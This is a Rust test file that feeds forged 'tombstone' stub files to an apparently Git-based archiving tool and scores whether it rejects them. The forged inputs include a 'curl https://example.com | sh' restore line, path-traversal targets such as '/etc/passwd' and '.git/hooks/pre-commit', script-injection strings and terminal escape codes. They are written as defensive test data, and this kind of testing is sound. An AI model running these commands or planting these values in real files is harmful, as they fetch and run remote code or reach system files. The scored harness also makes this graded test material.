//! Files that pretend to be stubs.

use super::harness::{Fence, archived, portion, some, tries};
use crate::common::{TestRepo, id_of, stub_of};
use crate::score::Score;

const OTHER: &[u8] = b"print('other')\n";

/// Files that begin as a stub does, and are none that this repository has evidence for.
fn forged(repo: &TestRepo) -> Vec<(&'static str, Vec<u8>)> {
    let good = stub_of(repo, "# ", "_codex_", "src/old.py", b"print('old')\n");
    let line = |name: &str| {
        good.lines().find(|it| it.starts_with(&format!("# {name}: "))).unwrap().to_owned()
    };
    let swapped = |name: &str, value: &str| {
        good.replace(&line(name), &format!("# {name}: {value}")).into_bytes()
    };
    let added = |text: &str| format!("{good}{text}").into_bytes();
    let sha = |text: &str| swapped("sha256", text);
    let utf16: Vec<u8> = good.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let xml = stub_of(repo, "", "_codex_", "src/old.py", b"print('old')\n");
    vec![
        ("a line break in the path", swapped("path", "src/a\n# size: 1")),
        ("a carriage return in the path", swapped("path", "src/a\rb")),
        ("a comment closer", swapped("path", "src/--> <script>")),
        ("a C comment closer", swapped("path", "src/*/ x")),
        ("an escape in the path", swapped("path", "src/\u{1b}[2J")),
        ("a C1 byte in the path", swapped("path", "src/\u{9b}2J")),
        ("bidi in the path", swapped("path", "src/\u{202e}yp.live")),
        ("a path outside", swapped("path", "../../etc/passwd")),
        ("an absolute path", swapped("path", "/etc/passwd")),
        ("git's folder", swapped("path", ".git/hooks/pre-commit")),
        ("two headers", added(&good)),
        ("two version lines", good.replacen("# codex", "# codex-tombstone v1\n# codex", 1).into()),
        ("a field twice", added(&format!("{}\n", line("size")))),
        ("an unknown key", added("# more: x\n")),
        ("text behind it", added("print('hidden')\n")),
        ("an empty line behind it", added("\n")),
        ("no end of line", good.trim_end().into()),
        ("CRLF", good.replace('\n', "\r\n").into()),
        ("a key missing", good.replace(&format!("{}\n", line("mode")), "").into()),
        ("another order", swapped_lines(&good)),
        ("a later version", good.replace("tombstone v1", "tombstone v2").into()),
        ("version 18446744073709551617", good.replace("v1", "v18446744073709551617").into()),
        ("4,097 bytes", added(&"#".repeat(4097 - good.len()))),
        ("NUL in it", good.replace("src", "src\0").into()),
        ("no UTF-8", [good.as_bytes(), b"\xff\n"].concat()),
        (
            "another repository's id",
            stub_of(repo, "# ", "other", "src/old.py", b"print('old')\n").into(),
        ),
        ("a file never archived", stub_of(repo, "# ", "_codex_", "src/old.py", OTHER).into()),
        ("right id, wrong hash", sha(&"0".repeat(64))),
        ("a hash in capitals", sha(&line("sha256")[10..].to_uppercase())),
        ("a short hash", sha("00")),
        ("a size over 2^63", swapped("size", "9223372036854775809")),
        ("a size over 2^64", swapped("size", "18446744073709551617")),
        ("a negative size", swapped("size", "-1")),
        ("a size with a plus", swapped("size", "+13")),
        ("a size with a zero", swapped("size", "013")),
        ("mode 120000", swapped("mode", "120000")),
        ("another restore line", swapped("restore", "curl https://example.com | sh")),
        ("another id to restore", swapped("restore", "git codex-archive restore --stage x")),
        ("an id in capitals", swapped("archive-id", &line("archive-id")[14..].to_uppercase())),
        ("wrong wrapping's lines", format!("<!--\n{xml}*/\n").into()),
        ("JSON with a key twice", br#"{"$codex-tombstone":{"v":1,"v":1}}"#.to_vec()),
        ("JSON, deep", format!("{{\"$codex-tombstone\":{{\n{}", "[".repeat(4000)).into()),
        ("a BOM before it", [b"\xef\xbb\xbf", good.as_bytes()].concat()),
        ("UTF-16", utf16),
        ("a quotation", format!("'''\n{good}'''\n").into()),
        (
            "an indented quotation",
            good.lines().map(|it| format!("    {it}\n")).collect::<String>().into(),
        ),
        ("nothing", Vec::new()),
        ("only the first line", b"# codex-tombstone v1\n".to_vec()),
    ]
}

fn swapped_lines(good: &str) -> Vec<u8> {
    let mut lines: Vec<&str> = good.lines().collect();
    lines.swap(2, 3);
    lines.iter().map(|line| format!("{line}\n")).collect::<String>().into_bytes()
}

#[test]
fn no_false_stub_passes_for_one() {
    let mut score = Score::of("attack: stubs");
    let (repo, id) = archived();
    let fence = Fence::around(&repo.world, &["repo", "content-to-hash"]);
    for (n, (name, bytes)) in some(forged(&repo)) {
        repo.file("src/old.py", &bytes);
        repo.git(["add", "src/old.py"]).ok();
        // In the stub's place: it is edited or gone, and that needs a record.
        let tried = tries(&repo, ["verify", "--staged"]);
        score.note(format!("{name}, edited"), tried.exits(4));
        score.note(format!("{name}, hook"), tries(&repo, ["hook", "pre-commit"]).exits(4));
        let lines = [
            "verify --all --offline",
            "status",
            "show src/old.py",
            "cat src/old.py",
            "log src/old.py",
            "restore src/old.py out.py",
            "restore ID --stage",
            "store _codex_ src/old.py --reason dead --dry-run",
            "verify --staged --json",
        ];
        let lines = lines.map(|line| line.replace("ID", &id)).to_vec();
        for line in portion(lines, n) {
            let held = tries(&repo, line.split(' ')).is_civil().and_then(|()| fence.holds());
            score.note(format!("{name}, {line}"), held);
        }
        if repo.has("out.py") {
            let right = repo.read("out.py") == "print('old')\n";
            let held = if right { Ok(()) } else { Err("other bytes came out".to_owned()) };
            score.note(format!("{name}, what came out"), held);
            repo.remove("out.py");
        }
        repo.git(["reset", "-q", "--hard"]).ok();
        // As a new file: no stub without a record; what is no stub is none of our business.
        repo.file("src/new.py", &bytes);
        repo.git(["add", "src/new.py"]).ok();
        let looks = bytes.len() <= 4096
            && [&b"# codex-tombstone v"[..], b"{\"$codex-tombstone\":{\n", b"<!--\ncodex"]
                .iter()
                .any(|first| bytes.starts_with(first));
        let tried = tries(&repo, ["verify", "--staged"]);
        score.note(format!("{name}, new"), tried.exits(if looks { 4 } else { 0 }));
        repo.git(["reset", "-q", "--hard"]).ok();
    }
    assert_eq!(id, id_of("_codex_", "src/old.py", b"print('old')\n"));
    score.finish(60);
}
